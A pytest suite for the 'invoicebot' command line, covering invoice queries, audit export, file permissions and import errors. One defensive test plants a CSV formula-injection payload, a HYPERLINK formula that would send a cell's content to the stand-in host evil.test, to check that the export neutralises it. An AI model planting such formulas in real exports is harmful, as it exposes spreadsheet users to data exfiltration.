"""The `invoicebot` command line, run as operators run it: a separate process."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from bot.service import Service
from tests.conftest import TEST_KEYS
from tests.fakes import SmtpSink
from tests.harness import DATA, TODAY, Running, fixed_clock, request_mail
from tests.s3 import suite_vault_env
from tests.worlds import INTENTS_DATA, KINDS, scratch_database
from vault import audit
from vault.permissions import database_files, warn_if_wide

CLI_TIMEOUT = 120  # seconds; a command takes a few


@dataclass
class Cli:
    env: dict[str, str]
    config: Path

    async def run(self, *args: str) -> tuple[int, str, str]:
        process = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "bot.cli", "--config", str(self.config), *args,
            env=self.env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
        )
        try:
            out, err = await asyncio.wait_for(process.communicate(), CLI_TIMEOUT)
        except TimeoutError:  # a hung command fails its test instead of stalling the suite
            process.kill()
            await process.wait()
            command = " ".join(args)
            raise AssertionError(f"invoicebot {command}: no exit in {CLI_TIMEOUT}s") from None
        assert process.returncode is not None
        return process.returncode, out.decode(), err.decode()

    async def load(self, *kinds: str) -> None:
        for kind in kinds:
            code, _, err = await self.run("import", kind, str(DATA / f"{kind}.csv"),
                                          "--no-progress")
            assert code == 0, err


def make_cli(tmp_path: Path, database_url: str) -> Cli:
    config = tmp_path / "config.toml"
    config.write_text('[http]\npublic_url = "http://links.invoicebot.test"\n')
    env = {
        k: v for k, v in os.environ.items() if not k.startswith("INVOICEBOT_")
    } | {
        "INVOICEBOT_DATABASE_URL": database_url,
        "INVOICEBOT_EMAIL_OUTBOUND": f"maildir:{tmp_path / 'outbox'}",
        "INVOICEBOT_SECRET_KEYS": TEST_KEYS,
    } | suite_vault_env(tmp_path / "vault")
    return Cli(env=env, config=config)


@pytest.fixture
def cli(tmp_path: Path, database_url: str) -> Cli:
    return make_cli(tmp_path, database_url)


def on_a_folder(cli: Cli, folder: Path) -> Path:
    """Keep this CLI's vault in `folder` whatever INVOICEBOT_TEST_VAULT says: for tests of
    what only a folder has (file modes, files beside it)."""
    for name in [name for name in cli.env if name.startswith("INVOICEBOT_VAULT_")]:
        del cli.env[name]
    cli.env["INVOICEBOT_VAULT_PATH"] = str(folder)
    return folder


async def test_ask_prints_the_reply_with_a_link(cli: Cli, orm: str) -> None:
    await cli.load("accounts", "contacts", "invoices")
    code, out, _ = await cli.run("ask", "--from", "ap@acme.example", "invoice", "INV-2026-0301")
    assert code == 0
    assert "INV-2026-0301" in out
    assert "http://links.invoicebot.test/d/" in out
    assert "PO number: PO-7781" in out


async def test_ask_for_someone_not_on_file_exits_2(cli: Cli, orm: str) -> None:
    code, out, err = await cli.run("ask", "--from", "nobody@example.org", "unpaid")
    assert code == 2
    assert "nobody@example.org" in err and "not an active contact" in err
    assert out == ""


async def test_audit_export_lists_what_was_asked(cli: Cli, orm: str) -> None:
    await cli.load("accounts", "contacts", "invoices")
    await cli.run("ask", "--from", "ap@acme.example", "unpaid")
    code, out, _ = await cli.run("audit", "export", "--account", "ACME")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    answered = [r for r in rows if r["action"] == "bot.request.answered"]
    assert [r["contact"] for r in answered] == ["ap@acme.example"]
    assert all(r["account_id"] == "ACME" for r in rows)
    code, out, _ = await cli.run("audit", "export", "--account", "GLOBEX")
    assert "bot.request.answered" not in out


async def test_audit_export_neutralises_a_formula_user_agent(cli: Cli, orm: str) -> None:
    formula = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
    await audit.record("vault.link.refused", ip="198.51.100.9", user_agent=formula)
    await audit.record("vault.link.refused", ip="198.51.100.9", user_agent="\t-1+1")
    code, out, _ = await cli.run("audit", "export")
    assert code == 0
    agents = [r["user_agent"] for r in csv.DictReader(io.StringIO(out))]
    assert agents == ["'" + formula, "'\t-1+1"]  # shown as text by a spreadsheet


async def test_audit_export_into_a_closed_pipe_ends_quietly(cli: Cli, orm: str) -> None:
    for n in range(2000):  # more than a pipe buffer holds
        await audit.record("vault.link.refused", ip=f"198.51.100.{n % 250}")
    shell = (f"{sys.executable} -m bot.cli --config {cli.config} audit export | head -n 1")
    done = await asyncio.create_subprocess_shell(
        shell, env=cli.env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    out, err = await asyncio.wait_for(done.communicate(), CLI_TIMEOUT)
    assert out.decode().startswith("at,")  # the header line `head` asked for
    assert b"Traceback" not in err and b"BrokenPipe" not in err


async def test_serve_without_secret_keys_exits_2_even_with_a_demo_key_file(
    cli: Cli, tmp_path: Path
) -> None:
    key_file = on_a_folder(cli, tmp_path / "vault").parent / "secret_key"
    key_file.write_text("d" * 48)  # left by an earlier `serve --demo`
    cli.env.pop("INVOICEBOT_SECRET_KEYS")
    code, _, err = await cli.run("serve")
    assert code == 2
    assert "INVOICEBOT_SECRET_KEYS is not set" in err and "--demo" in err


async def test_what_a_command_creates_is_0600_and_0700(
    cli: Cli, orm: str, tmp_path: Path
) -> None:
    vault_path = on_a_folder(cli, tmp_path / "vault")
    if orm.startswith("sqlite://"):  # a database the command creates, not the test
        cli.env["INVOICEBOT_DATABASE_URL"] = f"sqlite://{tmp_path / 'created.db'}"
        assert (await cli.run("migrate"))[0] == 0
    await cli.load("accounts", "contacts", "invoices")  # history: left to the render queue
    # so a request renders its PDF into the new vault (vault.render_queue.ensure_pdfs)
    assert (await cli.run("ask", "--from", "ap@acme.example", "invoice", "INV-2026-0301"))[0] == 0
    made = [vault_path, *vault_path.rglob("*")]
    assert any(p.suffix == ".pdf" for p in made)
    for path in made + database_files(cli.env["INVOICEBOT_DATABASE_URL"]):
        if path.exists():
            mode = stat.S_IMODE(path.stat().st_mode)
            assert mode & 0o077 == 0, f"{path} is {oct(mode)}"
            assert mode == 0o700 if path.is_dir() else mode in (0o600, 0o400), (path, oct(mode))


def test_files_wider_than_private_get_one_warning_naming_them(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    database = tmp_path / "invoicebot.db"
    database.write_bytes(b"")
    database.chmod(0o644)
    vault_path = tmp_path / "vault"
    (vault_path / "sha256").mkdir(parents=True)
    vault_path.chmod(0o700)
    (vault_path / "sha256").chmod(0o755)
    private = vault_path / "sha256" / "x.pdf"
    private.write_bytes(b"%PDF")
    private.chmod(0o400)
    wide = warn_if_wide(f"sqlite://{database}", vault_path)
    assert wide == [database, vault_path / "sha256"]
    (warning,) = [r for r in caplog.records if r.name == "invoicebot.permissions"]
    assert str(database) in warning.getMessage() and "-rw-r--r--" in warning.getMessage()
    assert str(private) not in warning.getMessage()


async def test_a_broken_row_exits_2_naming_the_line_and_writes_nothing(
    cli: Cli, orm: str, tmp_path: Path
) -> None:
    await cli.load("accounts")
    bad = tmp_path / "march.csv"
    rows = (DATA / "invoices.csv").read_text().splitlines()
    rows[3] = rows[3].replace("2026-03-18", "2026-02-30")
    bad.write_text("\n".join(rows) + "\n")
    code, _, err = await cli.run("import", "invoices", str(bad), "--no-progress")
    assert code == 2
    assert "march.csv line 4" in err and "2026-02-30" in err
    code, out, _ = await cli.run("audit", "export")
    assert "vault.import.completed" in out  # the accounts import
    assert out.count("vault.import.completed") == 1  # and nothing from the broken file


async def test_a_wrong_config_key_exits_2_naming_it(cli: Cli) -> None:
    cli.config.write_text("[links]\nlifetime = '7d'\n")
    code, _, err = await cli.run("migrate")
    assert code == 2
    assert "links.lifetime" in err and str(cli.config) in err


async def test_bad_usage_exits_2(cli: Cli) -> None:
    code, _, err = await cli.run("import", "customers", "x.csv")
    assert code == 2
    assert "invalid choice" in err


async def test_an_import_while_the_service_runs_is_seen_without_restart(
    cli: Cli, make_config, sink: SmtpSink, orm: str  # type: ignore[no-untyped-def]
) -> None:
    config = make_config(INVOICEBOT_EMAIL_OUTBOUND=f"smtp://127.0.0.1:{sink.port}")
    service = Service(config, clock=fixed_clock())
    await service.start()
    try:
        await cli.load("accounts", "contacts", "invoices")  # another process, same database
        running = Running(service=service, sink=sink, config=config)
        await running.send(request_mail("ap@acme.example", "invoices March"))
        await sink.wait_for(1)
        body = sink.messages[0].message.get_body(preferencelist=("plain",))
        assert body is not None
        assert "INV-2026-0301" in body.get_content()  # type: ignore[attr-defined]
    finally:
        await service.stop()


# ---- `ask` answers every intent --------------------------------------------------------------

@pytest.fixture(scope="module")
def intents_cli(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cli]:
    """The intents data set imported once, by the CLI, into this module's own database."""
    tmp = tmp_path_factory.mktemp("cli-intents")
    with scratch_database(tmp) as url:
        cli = make_cli(tmp, url)
        for kind in KINDS:
            done = subprocess.run(
                [sys.executable, "-m", "bot.cli", "--config", str(cli.config), "import", kind,
                 str(INTENTS_DATA / f"{kind}.csv"), "--no-progress"],
                env=cli.env, capture_output=True, text=True, check=False, timeout=CLI_TIMEOUT)
            assert done.returncode == 0, done.stderr
        yield cli


ASK_EVERY_INTENT = [
    ("ap@acme.example", "unpaid invoices 2026 for ACME Freight over 1000 EUR",
     ["Unpaid invoices in 2026 for ACME Freight GmbH over 1.000,00 €: 2 invoices",
      "INV-2026-0042", "INV-2026-0070", "http://links.invoicebot.test/d/"]),
    ("ap@acme.example", "invoice INV-2026-0042",
     ["Here is invoice INV-2026-0042.", "- Amount due: 2.017,04 €",
      "- Payment applied 01.04.2026: 1.000,00 € (BANK-2026-04, transfer)"]),
    ("ap@acme.example", "balance", ["7.042,04 € and 5.300,00 $ outstanding"]),
    ("approver@acme.example", "aging", ["Over 90 days 2.017,04 €", "Total 7.042,04 €"]),
    ("approver@acme.example", "statement 2026",
     ["closing balance 7.008,24 €", "statement-ACME-2026-01-01-2026-12-31.pdf: http://"]),
    ("ap@acme.example", "payments April 2026",
     ["Payments received in April 2026: 2 payments, totalling 2.200,00 €."]),
    ("ap@acme.example", "all 2025 as zip",
     ["22 invoices in one ZIP file", "invoices-in-2025.zip: http://links.invoicebot.test/d/"]),
    ("manager@initech.example", "dispute INV-2026-0500 wrong quantity",
     ["We have recorded your dispute of invoice INV-2026-0500.", "- Reason: wrong quantity"]),
    ("ap@acme.example", "talk to a person", ["a person will get back to you"]),
    ("ap@acme.example", "help",
     ["- balance", "Statements need an approver or manager contact"]),
    ("ap@acme.example", "statement 2026",
     ["Sorry, statements are available to approver or manager contacts"]),
    ("ap@acme.example", "my notification settings",
     ["This is how we tell you about your invoices:", "- Channels: email"]),
    ("ap@acme.example", "invoices 2025",
     ["Invoices in 2025: 22 invoices, totalling 21.681,80 € and 5.200,00 $."]),
    ("ap@acme.example", "invoices February 2026",
     ["The nearest invoice on your account is INV-2026-0042 from 04.03.2026."]),
    ("ap@acme.example", "invoice #42",
     ["Several invoices on your account match #42:", "- INV-2026-0042", "- INV-2025-0042"]),
    ("ap@acme.example", "invoice INV-2026-0043", ["Did you mean INV-2026-0042?"]),
    ("ap@acme.example", "balance\npayments April 2026",
     ["You asked for 2 things on 21.11.2026", "1. Your balance", "2. Payments received"]),
]


@pytest.mark.parametrize(
    ("sender", "text", "expected"), ASK_EVERY_INTENT,
    ids=["list", "detail", "balance", "aging", "statement", "payments", "archive", "dispute",
         "person", "help", "role-refusal", "preferences", "over-20", "none-nearest",
         "ambiguous", "near-miss", "several"])
async def test_ask_answers_every_intent(
    intents_cli: Cli, sender: str, text: str, expected: list[str]
) -> None:
    code, out, err = await intents_cli.run("ask", "--today", TODAY.isoformat(), "--from", sender,
                                           text)
    assert code == 0, err
    out = out.replace("\xa0", " ").replace("\u202f", " ")
    for part in expected:
        assert part in out, f"{part!r} not in:\n{out}"


async def test_ask_with_a_bad_today_exits_2(intents_cli: Cli) -> None:
    code, _, err = await intents_cli.run("ask", "--today", "21.11.2026", "--from",
                                         "ap@acme.example", "balance")
    assert code == 2
    assert "--today" in err and "21.11.2026" in err


async def test_serve_with_a_chat_channel_but_no_token_exits_2_naming_it(
    cli: Cli, orm: str
) -> None:
    cli.env["INVOICEBOT_TELEGRAM_ENABLED"] = "true"
    cli.env.pop("TELEGRAM_BOT_TOKEN", None)
    code, _, err = await cli.run("serve")
    assert code == 2
    assert "TELEGRAM_BOT_TOKEN" in err
